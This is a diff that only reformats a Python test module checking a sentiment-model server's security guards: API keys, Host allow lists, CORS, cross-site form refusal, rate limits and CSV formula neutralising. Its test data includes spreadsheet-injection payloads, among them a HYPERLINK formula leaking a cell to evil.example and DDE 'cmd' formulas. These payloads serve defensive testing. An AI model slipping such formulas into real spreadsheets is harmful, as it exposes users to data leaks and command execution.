@@ -5,6 +5,7 @@ Each is checked against a real uvicorn server on a loopback port with the reques
 no key or a wrong one, a forged Host header (DNS rebinding), a cross-origin page, a cross-site form post, a CSV
 whose texts are spreadsheet formulas, a burst over the rate limit. The page asks for the key in headless Chromium.
 """
+
 from __future__ import annotations
 
 import csv
@@ -28,7 +29,12 @@ from sentilstm.cli import app as cli_app
 from sentilstm.errors import ConfigError
 from sentilstm.serve import ServeSettings, build_app
 from sentilstm.serve.security import (
-    CSRF_HEADER, RateLimiter, client_key, host_allowed, neutralise_formulas, serve_allowed_hosts,
+    CSRF_HEADER,
+    RateLimiter,
+    client_key,
+    host_allowed,
+    neutralise_formulas,
+    serve_allowed_hosts,
 )
 from test_pages import browser, screenshot, shown, wait_for  # noqa: F401 - `browser` is a fixture
 from test_serve import LiveServer
@@ -37,8 +43,15 @@ FULL_KEY = "full-key-0123456789abcdef"
 READ_KEY = "read-key-0123456789abcdef"
 CSRF = {CSRF_HEADER: "1"}
 BEARER = {"Authorization": f"Bearer {FULL_KEY}"}
-FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', "+cmd|' /C calc'!A0", "-2+3",
-            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "not good at all"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "not good at all",
+]
 SAFE = [*("'" + text for text in FORMULAS[:5]), "'\n=1+1", FORMULAS[6]]  # a lone \r would split the row: now \n
 
 
@@ -50,8 +63,9 @@ def model_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
 
 def serving(model_path: Path, folder: Path, **options: Any) -> LiveServer:
     """The real app with `options` (ServeSettings fields), its database and page files in `folder`."""
-    settings = ServeSettings(str(model_path), feedback_url=f"sqlite:///{folder / 'feedback.db'}", upload_dir=str(folder),
-                             **options)
+    settings = ServeSettings(
+        str(model_path), feedback_url=f"sqlite:///{folder / 'feedback.db'}", upload_dir=str(folder), **options
+    )
     return LiveServer(build_app(settings))
 
 
@@ -64,7 +78,9 @@ def keyed(model_path: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterato
 @pytest.fixture(scope="module")
 def plain(model_path: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
     """Defaults, as `sentilstm serve` runs them on 127.0.0.1: no key, the loopback Host names only."""
-    with serving(model_path, tmp_path_factory.mktemp("plain"), allowed_hosts=serve_allowed_hosts("127.0.0.1", [])) as server:
+    with serving(
+        model_path, tmp_path_factory.mktemp("plain"), allowed_hosts=serve_allowed_hosts("127.0.0.1", [])
+    ) as server:
         yield server
 
 
@@ -82,8 +98,15 @@ def stored_feedback(server: LiveServer) -> list[Any]:
 def test_requests_without_a_key_are_401_and_health_stays_open(keyed: LiveServer) -> None:
     with httpx.Client(base_url=keyed.url, timeout=30) as client:
         assert client.get("/health").status_code == 200
-        for method, path in (("GET", "/model"), ("GET", "/trends"), ("GET", "/feedback"), ("POST", "/predict"),
-                             ("POST", "/explain"), ("POST", "/feedback"), ("GET", "/score/" + "a" * 32 + ".csv")):
+        for method, path in (
+            ("GET", "/model"),
+            ("GET", "/trends"),
+            ("GET", "/feedback"),
+            ("POST", "/predict"),
+            ("POST", "/explain"),
+            ("POST", "/feedback"),
+            ("GET", "/score/" + "a" * 32 + ".csv"),
+        ):
             answer = client.request(method, path, json={"text": "good"})
             assert answer.status_code == 401, (path, answer.text)
             assert answer.headers["www-authenticate"].startswith("Bearer")
@@ -95,8 +118,11 @@ def test_requests_without_a_key_are_401_and_health_stays_open(keyed: LiveServer)
 
 def test_a_wrong_key_is_401_and_never_echoed(keyed: LiveServer) -> None:
     with httpx.Client(base_url=keyed.url, timeout=30) as client:
-        for headers in ({"Authorization": "Bearer not-the-key-at-all-123"}, {"X-API-Key": FULL_KEY[:-1]},
-                        {"Authorization": f"Bearer {FULL_KEY.upper()}"}):
+        for headers in (
+            {"Authorization": "Bearer not-the-key-at-all-123"},
+            {"X-API-Key": FULL_KEY[:-1]},
+            {"Authorization": f"Bearer {FULL_KEY.upper()}"},
+        ):
             answer = client.post("/predict", json={"text": "good"}, headers=headers)
             assert answer.status_code == 401, headers
             assert answer.headers["www-authenticate"] == 'Bearer realm="sentilstm", error="invalid_token"'
@@ -114,7 +140,12 @@ def test_the_full_key_opens_everything(keyed: LiveServer) -> None:
         scored = client.post("/score", files=csv_file(["good", "bad"]))  # a key header needs no CSRF header
         assert scored.status_code == 200, scored.text
         assert client.get(scored.json()["download"]).status_code == 200
-        assert client.post("/predict", json={"text": "good"}, headers={"Authorization": "", "X-API-Key": FULL_KEY}).status_code == 200
+        assert (
+            client.post(
+                "/predict", json={"text": "good"}, headers={"Authorization": "", "X-API-Key": FULL_KEY}
+            ).status_code
+            == 200
+        )
 
 
 def test_the_read_key_reads_but_cannot_write(keyed: LiveServer) -> None:
@@ -124,9 +155,11 @@ def test_the_read_key_reads_but_cannot_write(keyed: LiveServer) -> None:
         for path in ("/model", "/trends", "/feedback"):
             assert client.get(path).status_code == 200, path
         before = len(stored_feedback(keyed))
-        writes = [client.post("/feedback", json={"text": "sneaky"}),
-                  client.post("/score/columns", files=csv_file(["good"]), headers=CSRF),
-                  client.post("/score", files=csv_file(["good"]), headers=CSRF)]
+        writes = [
+            client.post("/feedback", json={"text": "sneaky"}),
+            client.post("/score/columns", files=csv_file(["good"]), headers=CSRF),
+            client.post("/score", files=csv_file(["good"]), headers=CSRF),
+        ]
         for answer in writes:
             assert answer.status_code == 403, answer.text
             assert 'error="insufficient_scope"' in answer.headers["www-authenticate"]
@@ -189,7 +222,9 @@ def test_allowed_hosts_follow_the_bind_address() -> None:
     assert serve_allowed_hosts("0.0.0.0", []) == ()  # every interface: any name, unless --allowed-host says
     assert serve_allowed_hosts("0.0.0.0", ["Sentiment.Example.com"]) == ("sentiment.example.com", *loopback)
     assert serve_allowed_hosts("127.0.0.1", ["*"]) == ()
-    assert host_allowed("api.example.com:443", ("*.example.com",)) and not host_allowed("example.com.evil.test", ("*.example.com",))
+    assert host_allowed("api.example.com:443", ("*.example.com",)) and not host_allowed(
+        "example.com.evil.test", ("*.example.com",)
+    )
     assert host_allowed("[::1]:8000", loopback) and not host_allowed("", loopback) and host_allowed("x", ())
     for bad in ("http://example.com", "example.com:8000", "exa mple.com", "a/b"):
         with pytest.raises(ConfigError, match="allowed host"):
@@ -201,18 +236,31 @@ def test_cors_is_off_by_default(plain: LiveServer) -> None:
     with httpx.Client(base_url=plain.url, timeout=30) as client:
         simple = client.get("/model", headers={"Origin": "http://evil.example"})
         assert simple.status_code == 200 and "access-control-allow-origin" not in simple.headers
-        preflight = client.options("/predict", headers={"Origin": "http://evil.example",
-                                                        "Access-Control-Request-Method": "POST",
-                                                        "Access-Control-Request-Headers": "content-type"})
+        preflight = client.options(
+            "/predict",
+            headers={
+                "Origin": "http://evil.example",
+                "Access-Control-Request-Method": "POST",
+                "Access-Control-Request-Headers": "content-type",
+            },
+        )
         assert "access-control-allow-origin" not in preflight.headers
 
 
 def test_cors_origin_allows_only_that_origin(model_path: Path, tmp_path: Path) -> None:
     origin = "https://app.example.com"
-    with serving(model_path, tmp_path, api_key=FULL_KEY, cors_origins=(origin + "/",)) as server, \
-            httpx.Client(base_url=server.url, timeout=30) as client:
-        preflight = client.options("/predict", headers={"Origin": origin, "Access-Control-Request-Method": "POST",
-                                                        "Access-Control-Request-Headers": "authorization,content-type"})
+    with (
+        serving(model_path, tmp_path, api_key=FULL_KEY, cors_origins=(origin + "/",)) as server,
+        httpx.Client(base_url=server.url, timeout=30) as client,
+    ):
+        preflight = client.options(
+            "/predict",
+            headers={
+                "Origin": origin,
+                "Access-Control-Request-Method": "POST",
+                "Access-Control-Request-Headers": "authorization,content-type",
+            },
+        )
         assert preflight.status_code == 200 and preflight.headers["access-control-allow-origin"] == origin
         assert "authorization" in preflight.headers["access-control-allow-headers"].lower()
         answer = client.post("/predict", json={"text": "good"}, headers={"Origin": origin, **BEARER})
@@ -221,7 +269,9 @@ def test_cors_origin_allows_only_that_origin(model_path: Path, tmp_path: Path) -
         assert refused.status_code == 401 and refused.headers["access-control-allow-origin"] == origin
         other = client.post("/predict", json={"text": "good"}, headers={"Origin": "https://evil.example", **BEARER})
         assert "access-control-allow-origin" not in other.headers
-        bad = client.options("/predict", headers={"Origin": "https://evil.example", "Access-Control-Request-Method": "POST"})
+        bad = client.options(
+            "/predict", headers={"Origin": "https://evil.example", "Access-Control-Request-Method": "POST"}
+        )
         assert bad.status_code == 400 and "access-control-allow-origin" not in bad.headers
     with pytest.raises(ConfigError, match="cors origin"):
         ServeSettings("m", cors_origins=("app.example.com",))
@@ -236,8 +286,11 @@ def test_a_cross_site_form_post_is_refused(plain: LiveServer) -> None:
         attacks = [
             client.post("/score/columns", files=csv_file(["good"]), headers={"Origin": "http://evil.example"}),
             client.post("/score", files=csv_file(["good"])),
-            client.post("/feedback", content=b'{"text": "forged", "source": "evil"}',
-                        headers={"content-type": "text/plain", "Origin": "http://evil.example"}),
+            client.post(
+                "/feedback",
+                content=b'{"text": "forged", "source": "evil"}',
+                headers={"content-type": "text/plain", "Origin": "http://evil.example"},
+            ),
             client.post("/feedback", content=b'{"text": "forged"}', headers={"content-type": ""}),
             client.post("/feedback", data={"text": "forged"}),
         ]
@@ -252,7 +305,9 @@ def test_a_cross_site_form_post_is_refused(plain: LiveServer) -> None:
 
 # ----- spreadsheet formulas in scored CSVs ----------------------------------------------------------------------
 def test_scored_csv_neutralises_formulas(plain: LiveServer, model_path: Path, tmp_path: Path) -> None:
-    upload = csv_file(FORMULAS, score=[-0.5, 1.5, 2, -3, 0.25, 1, -1], note=["=1+1", "-5", "+3.5e2", "-x", "@me", "", "ok"])
+    upload = csv_file(
+        FORMULAS, score=[-0.5, 1.5, 2, -3, 0.25, 1, -1], note=["=1+1", "-5", "+3.5e2", "-x", "@me", "", "ok"]
+    )
     with httpx.Client(base_url=plain.url, timeout=60, headers=CSRF) as client:
         scored = client.post("/score", files=upload)
         assert scored.status_code == 200, scored.text
@@ -262,7 +317,10 @@ def test_scored_csv_neutralises_formulas(plain: LiveServer, model_path: Path, tm
     assert frame["score"].tolist() == [-0.5, 1.5, 2, -3, 0.25, 1, -1]  # numbers stay numbers
     assert frame["note"].tolist() == ["'=1+1", "-5", "+3.5e2", "'-x", "'@me", "", "ok"]  # number-like text too
     assert frame["prob_-1"].dtype.kind == "f" and set(frame["predicted_label"]) <= {-1, 1}
-    with serving(model_path, tmp_path, raw_csv=True) as raw, httpx.Client(base_url=raw.url, timeout=60, headers=CSRF) as client:
+    with (
+        serving(model_path, tmp_path, raw_csv=True) as raw,
+        httpx.Client(base_url=raw.url, timeout=60, headers=CSRF) as client,
+    ):
         link = client.post("/score", files=upload).json()["download"]
         kept = pd.read_csv(io.StringIO(client.get(link).text), keep_default_na=False)
         assert client.get("/model").json()["security"]["raw_csv"] is True
@@ -270,11 +328,20 @@ def test_scored_csv_neutralises_formulas(plain: LiveServer, model_path: Path, tm
 
 
 def test_neutralise_formulas_touches_only_text_cells() -> None:
-    frame = pd.DataFrame({"=cmd": ["=1", None, 3, "+x", "ok\r=cmd()\r\nok"], "p": [-0.5, 0.1, 0.2, 0.3, -1e-3],
-                          "s": pd.array(["-1", "@a", pd.NA, "\uff1d1", "a"], dtype="string")})
+    frame = pd.DataFrame(
+        {
+            "=cmd": ["=1", None, 3, "+x", "ok\r=cmd()\r\nok"],
+            "p": [-0.5, 0.1, 0.2, 0.3, -1e-3],
+            "s": pd.array(["-1", "@a", pd.NA, "\uff1d1", "a"], dtype="string"),
+        }
+    )
     safe = neutralise_formulas(frame)
     assert list(safe.columns) == ["'=cmd", "p", "s"]
-    assert safe["'=cmd"].tolist()[::2] == ["'=1", 3, "ok\n=cmd()\nok"] and safe["'=cmd"][1] is None and safe["'=cmd"][3] == "'+x"
+    assert (
+        safe["'=cmd"].tolist()[::2] == ["'=1", 3, "ok\n=cmd()\nok"]
+        and safe["'=cmd"][1] is None
+        and safe["'=cmd"][3] == "'+x"
+    )
     assert safe["p"].tolist() == frame["p"].tolist() and safe["p"].dtype == frame["p"].dtype
     assert safe["s"].tolist()[:2] == ["-1", "'@a"] and safe["s"][3] == "'\uff1d1"
     assert frame.columns[0] == "=cmd" and frame.iloc[0, 0] == "=1"  # the input is left as it was
@@ -319,10 +386,18 @@ def test_clients_are_told_apart_by_address() -> None:
 
 # ----- settings and the CLI ----------------------------------------------------------------------------------------
 def test_guard_settings_travel_through_the_environment() -> None:
-    settings = ServeSettings("m.sentilstm", api_key=FULL_KEY, allowed_hosts=("api.example.com", "localhost"),
-                             cors_origins=("https://app.example.com",), rate_limit=120, raw_csv=True)
+    settings = ServeSettings(
+        "m.sentilstm",
+        api_key=FULL_KEY,
+        allowed_hosts=("api.example.com", "localhost"),
+        cors_origins=("https://app.example.com",),
+        rate_limit=120,
+        raw_csv=True,
+    )
     env = settings.to_env()
-    assert env["SENTILSTM_SERVE_ALLOWED_HOSTS"] == "api.example.com,localhost" and env["SENTILSTM_SERVE_RAW_CSV"] == "true"
+    assert (
+        env["SENTILSTM_SERVE_ALLOWED_HOSTS"] == "api.example.com,localhost" and env["SENTILSTM_SERVE_RAW_CSV"] == "true"
+    )
     assert ServeSettings.from_env(env) == settings
     assert ServeSettings.from_env({**env, "SENTILSTM_SERVE_RAW_CSV": "false"}).raw_csv is False
     with pytest.raises(ConfigError, match="SENTILSTM_SERVE_RAW_CSV='maybe' is not a valid bool"):
@@ -332,8 +407,16 @@ def test_guard_settings_travel_through_the_environment() -> None:
 def test_cli_serve_documents_every_guard_and_fails_in_one_line(model_path: Path) -> None:
     runner = CliRunner()
     help_text = runner.invoke(cli_app, ["serve", "--help"], env={"COLUMNS": "200"}).stdout
-    for option in ("--api-key", "--read-key", "--allowed-host", "--cors-origin", "--rate-limit", "--raw-csv",
-                   "SENTILSTM_API_KEY", "SENTILSTM_READ_KEY"):
+    for option in (
+        "--api-key",
+        "--read-key",
+        "--allowed-host",
+        "--cors-origin",
+        "--rate-limit",
+        "--raw-csv",
+        "SENTILSTM_API_KEY",
+        "SENTILSTM_READ_KEY",
+    ):
         assert option in help_text, option
     short = runner.invoke(cli_app, ["serve", str(model_path), "--quiet"], env={"SENTILSTM_API_KEY": "hunter2"})
     assert short.exit_code == 2 and short.stderr.strip().count("\n") == 0
@@ -349,8 +432,21 @@ def test_cli_guards_reach_every_worker(model_path: Path, tmp_path: Path) -> None
 
     port = _free_port()
     env = {**os.environ, "OMP_NUM_THREADS": "1", "SENTILSTM_API_KEY": FULL_KEY}
-    command = [sys.executable, "-m", "sentilstm", "serve", str(model_path), "--port", str(port), "--workers", "2",
-               "--feedback-db", f"sqlite:///{tmp_path / 'f.db'}", "--rate-limit", "1000"]
+    command = [
+        sys.executable,
+        "-m",
+        "sentilstm",
+        "serve",
+        str(model_path),
+        "--port",
+        str(port),
+        "--workers",
+        "2",
+        "--feedback-db",
+        f"sqlite:///{tmp_path / 'f.db'}",
+        "--rate-limit",
+        "1000",
+    ]
     process = subprocess.Popen(command, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
     pids: set[int] = set()
     try:
